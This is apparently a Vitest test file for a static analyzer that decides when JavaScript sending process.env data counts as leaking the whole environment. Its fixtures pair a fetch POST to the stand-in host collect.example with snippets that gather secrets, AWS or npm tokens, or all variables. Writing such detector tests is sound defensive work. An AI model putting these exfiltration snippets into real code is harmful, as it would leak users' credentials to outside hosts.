import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

const SENDS = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(found) });";

/** Whether what a source sends counts as the whole environment. */
function sendsAll(source: string): boolean {
  return analyzeJs(`${source}\n${SENDS}`).flow.flows.some(({ labels }) => (labels & LABEL.envAll) !== 0);
}

describe('variables of one family', () => {
  test.each([
    ['a filter by a beginning', "filter((key) => key.startsWith('REACT_APP_'))"],
    ['one by a pattern', 'filter((key) => /^debug_/i.test(key))'],
    ['one of two families', "filter((key) => key.startsWith('LANGCHAIN_') || key.startsWith('LANGSMITH_'))"],
    ['one whatever the case', "filter((key) => key.toUpperCase().startsWith('REACT_APP_'))"],
    ['one that asks more', "filter((key) => key.startsWith('REACT_APP_') && process.env[key] !== '')"],
    ['a function with one statement', "filter(function (key) { return key.startsWith('REACT_APP_'); })"],
  ])('are not the whole environment: %s', (_what, filter) => {
    const picked = 'map((key) => `${key}=${process.env[key]}`)';
    expect(sendsAll(`const found = Object.keys(process.env).${filter}.${picked};`)).toBe(false);
  });

  test.each([
    [
      'pairs',
      "const found = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith('REACT_APP_')));",
    ],
    [
      'what is reduced to an object',
      "const found = Object.keys(process.env).reduce((all, key) => { if (key.startsWith('NEW_RELIC_METADATA_')) { all[key] = process.env[key]; } return all; }, {});",
    ],
    [
      'a value beside its key',
      "const found = {}; for (const [key, value] of Object.entries(process.env)) if (key.startsWith('REACT_APP_')) found[key] = value;",
    ],
    [
      'what is left where others are passed over',
      "const found = {}; for (const key in process.env) { if (!key.startsWith('REACT_APP_') || key.length > 99) continue; found[key] = process.env[key]; }",
    ],
    [
      'patterns of a table',
      'const CI = [{ flag: "GITHUB_ACTIONS", fields: /^GITHUB_RUN_/ }, { flag: "GITLAB_CI", fields: /^CI_PIPELINE_/ }]; const one = CI.find((ci) => process.env[ci.flag]); const found = Object.keys(process.env).filter((key) => one.fields.test(key)).map((key) => process.env[key]);',
    ],
  ])('are followed: %s', (_what, source) => {
    expect(sendsAll(source)).toBe(false);
  });

  test.each([
    ['by the words of secrets', '/TOKEN|SECRET/.test(key)'],
    ['of a cloud', "key.startsWith('AWS_')"],
    ['of an npm client, with its tokens', "key.startsWith('npm_config_')"],
    ['by a beginning of anything', "key.startsWith('A')"],
    ['of all but one', "!key.startsWith('REACT_APP_')"],
    ['or of anything', "key.startsWith('REACT_APP_') || key.length > 3"],
    ['by a pattern that costs', '/^(REACT_+)+$/.test(key)'],
    ['by a pattern that is not known', 'pattern.test(key)'],
    ['of another name', "other.startsWith('REACT_APP_')"],
  ])('are no family: %s', (_what, test_) => {
    const filtered = `Object.keys(process.env).filter((key) => ${test_})`;
    expect(sendsAll(`const found = ${filtered}.map((key) => process.env[key]);`)).toBe(true);
    const loop = `for (const key of Object.keys(process.env)) if (${test_}) found[key] = process.env[key];`;
    expect(sendsAll(`const found = {}; ${loop}`)).toBe(true);
  });

  test('one name inside another of the same spelling is not what was asked about', () => {
    const inner = 'for (const key of Object.keys(process.env)) found[key] = process.env[key];';
    const source = `const found = {}; for (const key of Object.keys(list)) if (key.startsWith('REACT_APP_')) { ${inner} }`;
    expect(sendsAll(source)).toBe(true);
  });
});

describe('what functions make of the environment that they are given', () => {
  test('is what they pick where they only pick variables', () => {
    const source = 'const slug = (env) => env.CI_PROJECT_PATH || env.GITHUB_REPOSITORY;';
    expect(sendsAll(`${source} const found = slug(process.env);`)).toBe(false);
  });

  test('is all of it where they give it back', () => {
    expect(sendsAll('const same = (env) => env; const found = same(process.env);')).toBe(true);
    expect(sendsAll('const held = (env) => ({ env }); const found = held(process.env);')).toBe(true);
  });
});
